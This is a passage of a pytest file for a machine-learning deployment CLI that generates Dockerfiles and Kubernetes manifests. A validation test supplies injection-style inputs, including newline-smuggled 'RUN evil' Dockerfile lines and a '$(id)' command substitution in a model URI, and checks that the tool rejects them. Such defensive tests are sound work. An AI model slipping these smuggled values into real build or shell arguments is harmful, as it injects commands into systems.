    result = write_k8s_manifests(
        "models:/c/1", out, image="c:1", min_replicas=20, cpu_request="1.5", cpu_limit="1500m"
    )
    hpa = load_objects(out)["HorizontalPodAutoscaler"]
    assert (hpa["spec"]["minReplicas"], hpa["spec"]["maxReplicas"]) == (20, 20)
    assert result.warnings == ()


def test_k8s_warns_about_an_unpinned_image(tmp_path: Path) -> None:
    result = write_k8s_manifests("models:/c/1", tmp_path / "a", image="churn")
    assert any("no tag" in warning for warning in result.warnings)
    result = write_k8s_manifests("models:/c/1", tmp_path / "b", image="churn:latest")
    assert any("no tag" in warning for warning in result.warnings)
    pinned = "churn@sha256:" + "b" * 64
    assert write_k8s_manifests("models:/c/1", tmp_path / "c", image=pinned).warnings == ()


# -- the command line ----------------------------------------------------------------------------


@pytest.fixture
def deploy_cli_app() -> typer.Typer:
    """The root options and error handling of ``loopml``, with ``deploy`` registered as the
    maintainer registers it."""
    root = typer.Typer(cls=LoopmlGroup, pretty_exceptions_enable=False, add_completion=False)
    root.callback()(root_cli._root)
    root.add_typer(deploy_cli.app, name="deploy")
    return root


def invoke(app: typer.Typer, *args: str) -> Result:
    runner = CliRunner(env={"COLUMNS": None, "LOOPML_TRACKING_URI": None})
    return runner.invoke(app, list(args))


def test_cli_docker_and_k8s(churn: Churn, tmp_path: Path, deploy_cli_app: typer.Typer) -> None:
    out = tmp_path / "build"
    done = invoke(
        deploy_cli_app,
        "--tracking-uri",
        churn.store,
        "deploy",
        "docker",
        "models:/churn@champion",
        "-o",
        str(out),
        "--env",
        "LOG_LEVEL=debug",
        "--env",
        "GREETING=a=b $(c)",
        "--workers",
        "2",
        "--json",
    )
    assert done.exit_code == 0, done.output
    body = json.loads(done.stdout)
    assert body["target"] == "docker"
    assert body["baked"] is True
    assert body["package_digest"] == churn.digest
    assert body["model_version"] == 1
    env = env_lines((out / "Dockerfile").read_text("utf-8"))
    assert env["LOG_LEVEL"] == "debug"
    assert env["GREETING"] == "a=b $(c)"

    table = invoke(
        deploy_cli_app,
        "-t",
        churn.store,
        "deploy",
        "docker",
        "models:/churn/1",
        "-o",
        str(tmp_path / "nobake"),
        "--no-bake",
    )
    assert table.exit_code == 0, table.output
    assert "Wrote a Docker build context" in table.stdout
    assert "docker build -t churn:v1" in table.stdout
    assert "Warning:" in table.stderr
    assert "LOOPML_TRACKING_URI" in table.stderr

    k8s = invoke(
        deploy_cli_app,
        "deploy",
        "k8s",
        "models:/churn@champion",
        "-o",
        str(tmp_path / "k8s"),
        "--image",
        "registry.example.com/churn:v1",
        "--replicas",
        "3",
        "--max-replicas",
        "6",
        "--namespace",
        "ml",
        "--token-secret",
        "loopml-token",
        "--label",
        "release=prom",
        "--cpu-limit",
        "none",
        "--json",
    )
    assert k8s.exit_code == 0, k8s.output
    assert json.loads(k8s.stdout)["files"] == [
        "deployment.yaml",
        "hpa.yaml",
        "service.yaml",
        "servicemonitor.yaml",
    ]
    objects = load_objects(tmp_path / "k8s")
    assert objects["HorizontalPodAutoscaler"]["spec"]["minReplicas"] == 3
    assert objects["Service"]["metadata"]["labels"]["release"] == "prom"
    (container,) = objects["Deployment"]["spec"]["template"]["spec"]["containers"]
    assert "cpu" not in container["resources"].get("limits", {})


@pytest.mark.parametrize(
    ("args", "option"),
    [
        (["docker", "models:/churn/1", "--env", "A=1\nRUN evil"], "--env"),
        (["docker", "models:/churn/1", "--env", "NOEQUALS"], "--env"),
        (["docker", "models:/churn/1", "--env", "A=1", "--env", "A=2"], "--env"),
        (["docker", "models:/churn/1", "--base-image", "python:3.11\nRUN evil"], "--base-image"),
        (["docker", "models:/churn/1", "--port", "80"], "--port"),
        (["docker", "models:/churn/1", "--name", "Bad_Name"], "--name"),
        (["docker", "models:/churn$(id)/1"], "MODEL_URI"),
        (["k8s", "models:/churn/1", "--image", "c:1", "--namespace", "Bad"], "--namespace"),
        (["k8s", "models:/churn/1", "--image", "c:1", "--label", "x=a b"], "--label"),
        (["k8s", "models:/churn/1", "--image", "c:1", "--cpu-request", "none"], "--cpu-request"),
        (["k8s", "models:/9lives/1", "--image", "c:1"], "--name"),
        (["k8s", "models:/churn/1", "--image", "c:1", "--env", "LOOPML_TOKEN=x"], "--env"),
    ],
)
def test_cli_bad_input_names_the_option(
    churn: Churn, tmp_path: Path, deploy_cli_app: typer.Typer, args: list[str], option: str
) -> None:
    done = invoke(deploy_cli_app, "-t", churn.store, "deploy", *args, "-o", str(tmp_path / "out"))
    assert done.exit_code == 2, done.output
    assert f"Error: {option}: " in done.stderr
    assert not (tmp_path / "out").exists()


def test_cli_unknown_model_exits_3(
    churn: Churn, tmp_path: Path, deploy_cli_app: typer.Typer
) -> None:
    done = invoke(
        deploy_cli_app,
        "-t",
        churn.store,
        "deploy",
        "docker",
        "models:/churn@nobody",
        "-o",
        str(tmp_path / "out"),
    )
    assert done.exit_code == 3, done.output


def test_cli_help(deploy_cli_app: typer.Typer) -> None:
    for command in ("docker", "k8s"):
        done = invoke(deploy_cli_app, "deploy", command, "--help")
        assert done.exit_code == 0
        assert "Examples" in done.stdout
